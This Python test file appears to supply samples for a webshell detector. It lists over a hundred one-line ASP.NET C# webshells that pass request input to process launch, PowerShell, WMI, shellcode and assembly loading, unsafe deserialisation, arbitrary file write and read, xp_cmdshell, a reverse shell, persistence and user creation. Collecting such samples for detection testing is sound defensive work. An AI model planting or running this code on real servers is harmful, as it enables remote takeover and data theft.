# ruff: noqa: E501 - the lines are as long as such pages have them
"""What acts in ASP.NET, each fed in the plainest way; the frame around them stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== start-one
void Page_Load(object s, EventArgs e) { System.Diagnostics.Process.Start(Request["k"]); }
==== start-info-constructor
void Page_Load(object s, EventArgs e) { Process.Start(new ProcessStartInfo("cmd.exe", "/c " + Request["k"]) { UseShellExecute = false }); }
==== start-info-fields
void Page_Load(object s, EventArgs e) { var i = new ProcessStartInfo(); i.FileName = "cmd.exe"; i.Arguments = "/c " + Request["k"]; Process.Start(i); }
==== start-info-target-typed
void Page_Load(object s, EventArgs e) { ProcessStartInfo i = new() { FileName = "cmd.exe", Arguments = "/c " + Request["k"] }; using var p = Process.Start(i); }
==== start-info-nested
void Page_Load(object s, EventArgs e) { var p = new Process { StartInfo = { FileName = "cmd.exe", Arguments = $"/c {Request["k"]}" } }; p.Start(); }
==== start-info-nested-new
void Page_Load(object s, EventArgs e) { var p = new Process { StartInfo = new ProcessStartInfo { FileName = "sh", Arguments = Request["k"] } }; p.Start(); }
==== start-info-of-process
void Page_Load(object s, EventArgs e) { using (var p = new Process()) { p.StartInfo.FileName = Request["f"]; p.StartInfo.Arguments = Request["k"]; p.Start(); } }
==== start-info-later
Process p = new Process();
void Page_Load(object s, EventArgs e) { var i = p.StartInfo; i.FileName = "cmd"; i.Arguments = "/c " + Request["k"]; p.Start(); }
==== start-stdin
void Page_Load(object s, EventArgs e) { var i = new ProcessStartInfo("cmd.exe") { RedirectStandardInput = true, UseShellExecute = false }; var p = Process.Start(i); p.StandardInput.WriteLine(Request["k"]); p.StandardInput.Close(); }
==== start-stdin-writer
void Page_Load(object s, EventArgs e) { var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.RedirectStandardInput = true; p.Start(); using (StreamWriter w = p.StandardInput) { w.WriteLine(Request["k"]); } }
==== start-argument-list
void Page_Load(object s, EventArgs e) { var i = new ProcessStartInfo { FileName = "sh", ArgumentList = { "-c", Request["k"] } }; Process.Start(i); }
==== start-using-alias
%%using P = System.Diagnostics.Process;
void Page_Load(object s, EventArgs e) { P.Start("cmd.exe", "/c " + Request["k"]); }
==== start-using-static
%%using static System.Diagnostics.Process;
void Page_Load(object s, EventArgs e) { Start("cmd.exe", "/c " + Request["k"]); }
==== start-alias-info
%%using I = System.Diagnostics.ProcessStartInfo;
void Page_Load(object s, EventArgs e) { System.Diagnostics.Process.Start(new I("cmd.exe", "/c " + Request["k"])); }
==== start-global
void Page_Load(object s, EventArgs e) { global::System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["k"]); }
==== start-delegate
void Page_Load(object s, EventArgs e) { Func<string, string, Process> f = Process.Start; f("cmd.exe", "/c " + Request["k"]); }
==== start-method-invoke
void Page_Load(object s, EventArgs e) { typeof(Process).GetMethod("Start", new[] { typeof(string), typeof(string) }).Invoke(null, new object[] { "cmd.exe", "/c " + Request["k"] }); }
==== start-type-gettype
void Page_Load(object s, EventArgs e) { var t = Type.GetType("System.Diagnostics.Process, System"); t.InvokeMember("Start", BindingFlags.InvokeMethod, null, null, new object[] { "cmd", "/c " + Request["k"] }); }
==== start-activator
void Page_Load(object s, EventArgs e) { dynamic p = Activator.CreateInstance(Type.GetType("System.Diagnostics.Process, System")); p.StartInfo.FileName = "cmd"; p.StartInfo.Arguments = "/c " + Request["k"]; p.Start(); }
==== start-assembly-type
void Page_Load(object s, EventArgs e) { var a = typeof(Uri).Assembly; var t = a.GetType("System.Diagnostics." + "Process"); var m = t.GetMethods().First(x => x.Name == "Start" && x.GetParameters().Length == 2); m.Invoke(null, new object[] { "cmd", "/c " + Request["k"] }); }
==== start-create-delegate
void Page_Load(object s, EventArgs e) { var m = typeof(Process).GetMethod("Start", new[] { typeof(string), typeof(string) }); var d = (Func<string, string, Process>)Delegate.CreateDelegate(typeof(Func<string, string, Process>), m); d("cmd", "/c " + Request["k"]); }
==== start-expression-tree
void Page_Load(object s, EventArgs e) { var m = typeof(Process).GetMethod("Start", new[] { typeof(string), typeof(string) }); Expression.Lambda(Expression.Call(m, Expression.Constant("cmd"), Expression.Constant("/c " + Request["k"]))).Compile().DynamicInvoke(); }
==== com-progid
void Page_Load(object s, EventArgs e) { dynamic w = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell")); w.Run("cmd /c " + Request["k"], 0, true); }
==== com-progid-exec
void Page_Load(object s, EventArgs e) { object w = Server.CreateObject("WScript.Shell"); w.GetType().InvokeMember("Exec", BindingFlags.InvokeMethod, null, w, new object[] { Request["k"] }); }
==== com-shell-application
void Page_Load(object s, EventArgs e) { dynamic a = Activator.CreateInstance(Type.GetTypeFromProgID("Shell.Application")); a.ShellExecute("cmd.exe", "/c " + Request["k"], "", "open", 0); }
==== vb-interaction
void Page_Load(object s, EventArgs e) { Microsoft.VisualBasic.Interaction.Shell("cmd /c " + Request["k"], Microsoft.VisualBasic.AppWinStyle.Hide, true, -1); }
==== wmi-create
void Page_Load(object s, EventArgs e) { var c = new ManagementClass("Win32_Process"); c.InvokeMethod("Create", new object[] { "cmd /c " + Request["k"] }); }
==== wmi-parameters
void Page_Load(object s, EventArgs e) { ManagementClass c = new ManagementClass(@"\\.\root\cimv2:Win32_Process"); ManagementBaseObject p = c.GetMethodParameters("Create"); p["CommandLine"] = Request["k"]; c.InvokeMethod("Create", p, null); }
==== powershell
void Page_Load(object s, EventArgs e) { using (PowerShell p = PowerShell.Create()) { p.AddScript(Request["k"]); p.Invoke(); } }
==== powershell-chain
void Page_Load(object s, EventArgs e) { foreach (var o in PowerShell.Create().AddScript(Request["k"]).AddCommand("Out-String").Invoke()) Response.Write(o); }
==== runspace
void Page_Load(object s, EventArgs e) { using (Runspace r = RunspaceFactory.CreateRunspace()) { r.Open(); Pipeline p = r.CreatePipeline(Request["k"]); p.Invoke(); } }
==== runspace-commands
void Page_Load(object s, EventArgs e) { Runspace r = RunspaceFactory.CreateRunspace(); r.Open(); Pipeline p = r.CreatePipeline(); p.Commands.AddScript(Request["k"]); p.Commands.Add("Out-String"); p.Invoke(); }
==== pinvoke-winexec
[DllImport("kernel32.dll")] static extern uint WinExec(string c, uint s);
void Page_Load(object s, EventArgs e) { WinExec("cmd /c " + Request["k"], 0); }
==== pinvoke-entry-point
[System.Runtime.InteropServices.DllImport("shell32", EntryPoint = "ShellExecuteA")] private static extern int Open1(int h, string o, string f, string p, string d, int n);
void Page_Load(object s, EventArgs e) { Open1(0, "open", "cmd.exe", "/c " + Request["k"], null, 0); }
==== pinvoke-create-process
[DllImport("kernel32.dll", SetLastError = true)] static extern bool CreateProcess(string a, string c, IntPtr p, IntPtr t, bool i, uint f, IntPtr e, string d, ref STARTUPINFO si, out PROCESS_INFORMATION pi);
void Page_Load(object s, EventArgs e) { var si = new STARTUPINFO(); PROCESS_INFORMATION pi; CreateProcess(null, "cmd /c " + Request["k"], IntPtr.Zero, IntPtr.Zero, false, 0, IntPtr.Zero, null, ref si, out pi); }
==== pinvoke-msvcrt
[DllImport("msvcrt")] static extern int system(string c);
void Page_Load(object s, EventArgs e) { system(Request["k"]); }
==== pinvoke-memory
[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
[DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);
void Page_Load(object s, EventArgs e) { byte[] b = Convert.FromBase64String(Request["k"]); IntPtr m = VirtualAlloc(IntPtr.Zero, (uint)b.Length, 0x3000, 0x40); Marshal.Copy(b, 0, m, b.Length); CreateThread(IntPtr.Zero, 0, m, IntPtr.Zero, 0, IntPtr.Zero); }
==== function-pointer
void Page_Load(object s, EventArgs e) { byte[] b = Convert.FromBase64String(Request["k"]); IntPtr m = Marshal.AllocHGlobal(b.Length); Marshal.Copy(b, 0, m, b.Length); var d = (Action)Marshal.GetDelegateForFunctionPointer(m, typeof(Action)); d(); }
==== assembly-load
void Page_Load(object s, EventArgs e) { Assembly.Load(Convert.FromBase64String(Request["k"])).CreateInstance("U").Equals(this); }
==== assembly-entry-point
void Page_Load(object s, EventArgs e) { var a = System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength)); a.EntryPoint.Invoke(null, new object[] { new string[0] }); }
==== assembly-domain
void Page_Load(object s, EventArgs e) { AppDomain.CurrentDomain.Load(Convert.FromBase64String(Request["k"])).GetTypes()[0].GetMethod("M").Invoke(null, null); }
==== assembly-invoke-load
void Page_Load(object s, EventArgs e) { typeof(Assembly).GetMethod("Load", new[] { typeof(byte[]) }).Invoke(null, new object[] { Convert.FromBase64String(Request["k"]) }); }
==== assembly-load-from
void Page_Load(object s, EventArgs e) { Assembly.LoadFrom(Request["k"]).GetType("T").GetMethod("M").Invoke(null, null); }
==== assembly-upload
void Page_Load(object s, EventArgs e) { var f = Request.Files[0]; var b = new byte[f.ContentLength]; f.InputStream.Read(b, 0, b.Length); Assembly.Load(b); }
==== assembly-fetch
void Page_Load(object s, EventArgs e) { Assembly.Load(new System.Net.WebClient().DownloadData(Request["u"])); }
==== load-context
void Page_Load(object s, EventArgs e) { System.Runtime.Loader.AssemblyLoadContext.Default.LoadFromStream(new MemoryStream(Convert.FromBase64String(Request["k"]))); }
==== codedom
void Page_Load(object s, EventArgs e) { var p = new Microsoft.CSharp.CSharpCodeProvider(); var r = p.CompileAssemblyFromSource(new CompilerParameters { GenerateInMemory = true }, Request["k"]); r.CompiledAssembly.GetType("T").GetMethod("M").Invoke(null, null); }
==== codedom-provider
void Page_Load(object s, EventArgs e) { CodeDomProvider p = CodeDomProvider.CreateProvider("C#"); CompilerResults r = p.CompileAssemblyFromSource(new CompilerParameters(), new string[] { "class T { static object M() { " + Request["k"] + " } }" }); r.CompiledAssembly.CreateInstance("T"); }
==== codedom-compiler
void Page_Load(object s, EventArgs e) { ICodeCompiler c = new CSharpCodeProvider().CreateCompiler(); c.CompileAssemblyFromSource(new CompilerParameters(), Request["k"]); }
==== roslyn
void Page_Load(object s, EventArgs e) { var t = CSharpSyntaxTree.ParseText(Request["k"]); var c = CSharpCompilation.Create("a").AddSyntaxTrees(t); using (var m = new MemoryStream()) { c.Emit(m); Assembly.Load(m.ToArray()); } }
==== roslyn-script
async void Page_Load(object s, EventArgs e) { await Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScript.RunAsync(Request["k"]); }
==== jscript-evaluator
void Page_Load(object s, EventArgs e) { Microsoft.JScript.Eval.JScriptEvaluate(Request["k"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine()); }
==== script-control
void Page_Load(object s, EventArgs e) { dynamic c = Activator.CreateInstance(Type.GetTypeFromProgID("MSScriptControl.ScriptControl")); c.Language = "VBScript"; c.ExecuteStatement(Request["k"]); }
==== parse-control
void Page_Load(object s, EventArgs e) { Controls.Add(ParseControl(Request["k"])); }
==== xslt-script
void Page_Load(object s, EventArgs e) { var x = new XslCompiledTransform(); x.Load(XmlReader.Create(new StringReader(Request["k"])), XsltSettings.TrustedXslt, new XmlUrlResolver()); x.Transform(new XmlDocument(), null, Response.OutputStream); }
==== xaml
void Page_Load(object s, EventArgs e) { System.Windows.Markup.XamlReader.Parse(Request["k"]); }
==== dynamic-method
void Page_Load(object s, EventArgs e) { AppDomain.CurrentDomain.ExecuteAssembly(Request["k"]); }
==== binary-formatter
void Page_Load(object s, EventArgs e) { new BinaryFormatter().Deserialize(new MemoryStream(Convert.FromBase64String(Request["k"]))); }
==== los-formatter
void Page_Load(object s, EventArgs e) { new System.Web.UI.LosFormatter().Deserialize(Request["k"]); }
==== object-state-formatter
void Page_Load(object s, EventArgs e) { ObjectStateFormatter f = new ObjectStateFormatter(); f.Deserialize(Request["k"]); }
==== soap-formatter
void Page_Load(object s, EventArgs e) { new SoapFormatter().Deserialize(Request.InputStream); }
==== net-data-contract
void Page_Load(object s, EventArgs e) { new NetDataContractSerializer().ReadObject(Request.InputStream); }
==== type-name-handling
void Page_Load(object s, EventArgs e) { JsonConvert.DeserializeObject(Request["k"], new JsonSerializerSettings { TypeNameHandling = TypeNameHandling.All }); }
==== write-all-text
void Page_Load(object s, EventArgs e) { File.WriteAllText(Request["p"], Request["k"]); }
==== write-all-bytes
void Page_Load(object s, EventArgs e) { System.IO.File.WriteAllBytes(Server.MapPath(Request["p"]), Convert.FromBase64String(Request["k"])); }
==== write-append
void Page_Load(object s, EventArgs e) { File.AppendAllText(Request["p"], Request["k"]); }
==== write-lines
void Page_Load(object s, EventArgs e) { File.WriteAllLines(Request["p"], Request["k"].Split('\n')); }
==== write-stream-writer
void Page_Load(object s, EventArgs e) { using (var w = new StreamWriter(Request["p"])) { w.Write(Request["k"]); } }
==== write-create-text
void Page_Load(object s, EventArgs e) { StreamWriter w = File.CreateText(Request["p"]); w.Write(Request["k"]); w.Close(); }
==== write-file-stream
void Page_Load(object s, EventArgs e) { var b = Convert.FromBase64String(Request["k"]); using (FileStream f = new FileStream(Request["p"], FileMode.Create)) { f.Write(b, 0, b.Length); } }
==== write-file-create
void Page_Load(object s, EventArgs e) { using (var f = File.Create(Request["p"])) { Request.InputStream.CopyTo(f); } }
==== write-file-info
void Page_Load(object s, EventArgs e) { var i = new FileInfo(Request["p"]); using (var w = i.CreateText()) { w.Write(Request["k"]); } }
==== write-open-write
void Page_Load(object s, EventArgs e) { using (var f = File.OpenWrite(Request["p"])) using (var w = new BinaryWriter(f)) { w.Write(Encoding.UTF8.GetBytes(Request["k"])); } }
==== write-async
async void Page_Load(object s, EventArgs e) { using var w = new StreamWriter(Request["p"], false); await w.WriteAsync(Request["k"]); }
==== write-vb-filesystem
void Page_Load(object s, EventArgs e) { Microsoft.VisualBasic.FileIO.FileSystem.WriteAllText(Request["p"], Request["k"], false); }
==== write-xml
void Page_Load(object s, EventArgs e) { var d = new XmlDocument(); d.LoadXml(Request["k"]); d.Save(Request["p"]); }
==== save-as
void Page_Load(object s, EventArgs e) { Request.Files[0].SaveAs(Request["p"]); }
==== save-as-combine
void Page_Load(object s, EventArgs e) { HttpPostedFile f = Request.Files["f"]; f.SaveAs(Path.Combine(Request["d"], Path.GetFileName(f.FileName))); }
==== save-as-client-name
void Page_Load(object s, EventArgs e) { foreach (string n in Request.Files) { var f = Request.Files[n]; f.SaveAs(Server.MapPath("~/" + f.FileName)); } }
==== save-request
void Page_Load(object s, EventArgs e) { Request.SaveAs(Server.MapPath("x.aspx"), false); }
==== download-file
void Page_Load(object s, EventArgs e) { new WebClient().DownloadFile(Request["u"], Server.MapPath(Request["p"])); }
==== download-to-script
void Page_Load(object s, EventArgs e) { using (var c = new WebClient()) c.DownloadFile(Request["u"], Server.MapPath("a.aspx")); }
==== http-client-write
async void Page_Load(object s, EventArgs e) { var b = await new HttpClient().GetByteArrayAsync(Request["u"]); File.WriteAllBytes(Request["p"], b); }
==== read-any
void Page_Load(object s, EventArgs e) { Response.Write(File.ReadAllText(Request["p"])); }
==== list-any
void Page_Load(object s, EventArgs e) { foreach (var f in Directory.GetFiles(Request["p"])) Response.Write(f); }
==== directory-info
void Page_Load(object s, EventArgs e) { foreach (var f in new DirectoryInfo(Request["p"]).GetFileSystemInfos()) Response.Write(f.FullName); }
==== delete-any
void Page_Load(object s, EventArgs e) { File.Delete(Request["p"]); }
==== move-any
void Page_Load(object s, EventArgs e) { File.Move(Request["a"], Request["b"]); }
==== copy-any
void Page_Load(object s, EventArgs e) { File.Copy(Request["a"], Request["b"], true); }
==== transmit
void Page_Load(object s, EventArgs e) { Response.TransmitFile(Request["p"]); }
==== zip-extract
void Page_Load(object s, EventArgs e) { ZipFile.ExtractToDirectory(Request["a"], Request["b"]); }
==== sql-console
void Page_Load(object s, EventArgs e) { using (var c = new SqlConnection(Request["c"])) { c.Open(); new SqlCommand(Request["k"], c).ExecuteNonQuery(); } }
==== sql-adapter
void Page_Load(object s, EventArgs e) { var a = new OleDbDataAdapter(Request["k"], Request["c"]); var t = new DataTable(); a.Fill(t); }
==== sql-command-text
void Page_Load(object s, EventArgs e) { var c = new SqlConnection(Request["c"]); var m = c.CreateCommand(); m.CommandText = Request["k"]; c.Open(); var r = m.ExecuteReader(); }
==== xp-cmdshell
void Page_Load(object s, EventArgs e) { var c = new SqlConnection("server=."); c.Open(); var m = new SqlCommand("exec master..xp_cmdshell '" + Request["k"] + "'", c); m.ExecuteNonQuery(); }
==== xp-cmdshell-parameter
void Page_Load(object s, EventArgs e) { var c = new SqlConnection("server=."); var m = new SqlCommand("xp_cmdshell", c) { CommandType = CommandType.StoredProcedure }; m.Parameters.AddWithValue("@command", Request["k"]); m.ExecuteNonQuery(); }
==== include-page
void Page_Load(object s, EventArgs e) { File.WriteAllText(Server.MapPath("t.aspx"), Request["k"]); Server.Execute("t.aspx"); }
==== build-manager
void Page_Load(object s, EventArgs e) { BuildManager.CreateInstanceFromVirtualPath(Request["p"], typeof(Page)); }
==== virtual-path-provider
class V : VirtualPathProvider { public override VirtualFile GetFile(string p) { return null; } }
void Page_Load(object s, EventArgs e) { var p = (VirtualPathProvider)Assembly.Load(Convert.FromBase64String(Request["k"])).CreateInstance("V"); HostingEnvironment.RegisterVirtualPathProvider(p); }
==== socket-relay
void Page_Load(object s, EventArgs e) { var c = new TcpClient(Request["h"], int.Parse(Request["p"])); var n = c.GetStream(); Request.InputStream.CopyTo(n); n.CopyTo(Response.OutputStream); }
==== reverse-shell
void Page_Load(object s, EventArgs e) { var c = new TcpClient(Request["h"], int.Parse(Request["p"])); var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.RedirectStandardInput = true; p.Start(); var r = new StreamReader(c.GetStream()); string l; while ((l = r.ReadLine()) != null) p.StandardInput.WriteLine(l); }
==== web-relay
void Page_Load(object s, EventArgs e) { var w = (HttpWebRequest)WebRequest.Create(Request["u"]); w.Method = "POST"; Request.InputStream.CopyTo(w.GetRequestStream()); w.GetResponse().GetResponseStream().CopyTo(Response.OutputStream); }
==== machine-keys
void Page_Load(object s, EventArgs e) { var k = (MachineKeySection)WebConfigurationManager.GetSection("system.web/machineKey"); Response.Write(k.ValidationKey + k.DecryptionKey); }
==== registry-set
void Page_Load(object s, EventArgs e) { Microsoft.Win32.Registry.SetValue(Request["a"], Request["n"], Request["k"]); }
==== schedule
void Page_Load(object s, EventArgs e) { Process.Start("schtasks", "/create /tn a /sc onstart /tr " + Request["k"]); }
==== service-create
void Page_Load(object s, EventArgs e) { var p = new Process(); var si = p.StartInfo; (si.FileName, si.Arguments) = ("cmd.exe", "/c " + Request["k"]); p.Start(); }
==== razor-engine
void Page_Load(object s, EventArgs e) { Response.Write(RazorEngine.Engine.Razor.RunCompile(Request["k"], "a", null, new { })); }
==== linq-dynamic-compile
void Page_Load(object s, EventArgs e) { var r = new Microsoft.VisualBasic.VBCodeProvider().CompileAssemblyFromSource(new CompilerParameters(), Request["k"]); }
==== msbuild
void Page_Load(object s, EventArgs e) { var p = new Microsoft.Build.Evaluation.Project(XmlReader.Create(new StringReader(Request["k"]))); p.Build(); }
==== workflow
void Page_Load(object s, EventArgs e) { WorkflowInvoker.Invoke(ActivityXamlServices.Load(new StringReader(Request["k"]))); }
==== handler-ironpython
void Page_Load(object s, EventArgs e) { IronPython.Hosting.Python.CreateEngine().Execute(Request["k"]); }
==== jint
void Page_Load(object s, EventArgs e) { new Jint.Engine(o => o.AllowClr()).Execute(Request["k"]); }
==== add-user
void Page_Load(object s, EventArgs e) { var d = new DirectoryEntry("WinNT://" + Environment.MachineName); var u = d.Children.Add(Request["u"], "user"); u.Invoke("SetPassword", Request["p"]); u.CommitChanges(); }
==== text-box
void Go(object s, EventArgs e) { Process.Start("cmd.exe", "/c " + txtCmd.Text); }
==== hidden-field
void Go(object s, EventArgs e) { Process.Start("cmd.exe", "/c " + hidCmd.Value); }
==== file-upload
void Go(object s, EventArgs e) { upFile.SaveAs(Server.MapPath(upFile.FileName)); }
==== file-upload-bytes
void Go(object s, EventArgs e) { Assembly.Load(upFile.FileBytes); }
==== find-control
void Go(object s, EventArgs e) { var t = (TextBox)FindControl("txtCmd"); Process.Start("cmd.exe", "/c " + t.Text); }
==== find-control-cast
void Go(object s, EventArgs e) { Process.Start("cmd.exe", "/c " + ((TextBox)Page.FindControl("txtCmd")).Text); }
==== made-text-box
TextBox t = new TextBox();
protected override void OnInit(EventArgs e) { Controls.Add(t); var b = new Button(); b.Click += (s, a) => { Process.Start("cmd.exe", "/c " + t.Text); }; Controls.Add(b); }
==== sender-text-box
void Changed(object sender, EventArgs e) { Process.Start("cmd.exe", "/c " + ((TextBox)sender).Text); }
==== command-argument
void Go(object s, CommandEventArgs e) { Process.Start("cmd.exe", "/c " + e.CommandArgument); }
==== web-method
[WebMethod] public static string Go(string k) { return Process.Start("cmd.exe", "/c " + k).StandardOutput.ReadToEnd(); }
==== callback-event
public void RaiseCallbackEvent(string k) { Process.Start("cmd.exe", "/c " + k); }
==== iterator-local
void Page_Load(object s, EventArgs e) { IEnumerable<string> Parts() { foreach (var p in Request.Form.GetValues("k")) yield return p; } Process.Start("cmd.exe", "/c " + string.Join(" ", Parts())); }
==== factory-property
class Req { public string C { get; private set; } public static Req From(HttpRequest r) => new Req { C = r["k"] }; }
void Page_Load(object s, EventArgs e) { var q = Req.From(Request); Process.Start("cmd.exe", "/c " + q.C); }
==== steps-aggregate
interface IStep { string Do(string x); } class A1 : IStep { public string Do(string x) => x.Trim(); } class B1 : IStep { public string Do(string x) { Process.Start("cmd.exe", "/c " + x); return x; } }
void Page_Load(object s, EventArgs e) { var steps = new List<IStep> { new A1(), new B1() }; steps.Aggregate(Request["k"], (x, t) => t.Do(x)); }
==== constructor-arrow
class Ctx { public readonly HttpRequest R; public Ctx(HttpRequest r) => R = r; public string Line => R.Headers["X-K"]; }
void Page_Load(object s, EventArgs e) { var c = new Ctx(Request); Process.Start("cmd.exe", "/c " + c.Line); }
==== primary-constructor
class Ctx(HttpRequest r) { public string Line() => r.Form["k"]; }
void Page_Load(object s, EventArgs e) { Process.Start("cmd.exe", "/c " + new Ctx(Request).Line()); }
==== generic-concat
static void Exec<T>(T v) where T : IConvertible { var i = new ProcessStartInfo { FileName = Environment.GetEnvironmentVariable("ComSpec") }; i.Arguments = String.Concat("/c ", v); Process.Start(i); }
void Page_Load(object s, EventArgs e) { Exec(Request["k"]); }
==== to-dictionary
void Page_Load(object s, EventArgs e) { var map = Request.Form.AllKeys.ToDictionary(k => k, k => Request.Form[k]); Process.Start("cmd.exe", "/c " + map["k"]); }
==== lambda-info
void Page_Load(object s, EventArgs e) { var t = (Func<string>)(() => Request["k"]); var p = new Process(); p.StartInfo = new ProcessStartInfo("cmd.exe"); p.StartInfo.Arguments = "/c " + t(); p.Start(); }
==== local-closure
void Page_Load(object s, EventArgs e) { string a = null; void Take() => a = Request["k"]; Take(); Process.Start("cmd.exe", "/c " + a); }
==== enum-switch
enum M { Run, Put } void Page_Load(object s, EventArgs e) { if (Enum.TryParse<M>(Request["m"], out var m) && m == M.Run) { Process.Start("cmd.exe", "/c " + Request["k"]); } }
==== own-indexer
private string this[int i] { get { return Request[i]; } }
void Page_Load(object s, EventArgs e) { Process.Start("cmd.exe", "/c " + this[0]); }
==== tuple-foreach
void Page_Load(object s, EventArgs e) { foreach (var (k, v) in Request.Form.AllKeys.Select(n => (n, Request.Form[n]))) if (k == "x") Process.Start("cmd.exe", "/c " + v); }
==== read-in-parts
void Page_Load(object s, EventArgs e) { var b = new byte[64]; int n; var m = new StringBuilder(); while ((n = Request.InputStream.Read(b, 0, b.Length)) > 0) m.Append(Encoding.ASCII.GetString(b, 0, n)); Process.Start("cmd.exe", "/c " + m); }
==== pattern-var
void Page_Load(object s, EventArgs e) { var x = Request["k"] is var q && q != null ? q : ""; Process.Start("cmd.exe", "/c " + x); }
==== chain-of-handlers
abstract class H1 { H1 next; public H1 Then(H1 n) { next = n; return n; } public virtual void Handle(string v) { next?.Handle(v); } } class E1 : H1 { public override void Handle(string v) { Process.Start("cmd.exe", "/c " + v); } }
void Page_Load(object s, EventArgs e) { H1 h = new E1(); h.Handle(Request["k"]); }
==== string-reader
void Page_Load(object s, EventArgs e) { using (StringReader r = new StringReader(Request["k"])) { string l; while (null != (l = r.ReadLine())) Process.Start("cmd.exe", "/c " + l); } }
==== setter-arrow
string F { set => Process.Start("cmd.exe", "/c " + value); } void Page_Load(object s, EventArgs e) => F = Request["k"];
==== array-of-arguments
void Page_Load(object s, EventArgs e) { object[] a = { "cmd.exe", null }; a[1] = "/c " + Request["k"]; typeof(Process).GetMethod("Start", new[] { typeof(string), typeof(string) }).Invoke(null, a); }
==== capitals
class Job { public string Line { get; } public Job(string line) { Line = line ?? throw new ArgumentNullException(nameof(line)); } public void Go() { Process.Start("cmd.exe", "/c " + Line); } }
void Page_Load(object s, EventArgs e) { new Job(Request["k"]).Go(); }
==== choice-behind-and
void Page_Load(object s, EventArgs e) { var v = Request["a"] == "x" && Request["k"] != null ? Request["k"] : ""; Process.Start("cmd.exe", "/c " + v); }
"""
)
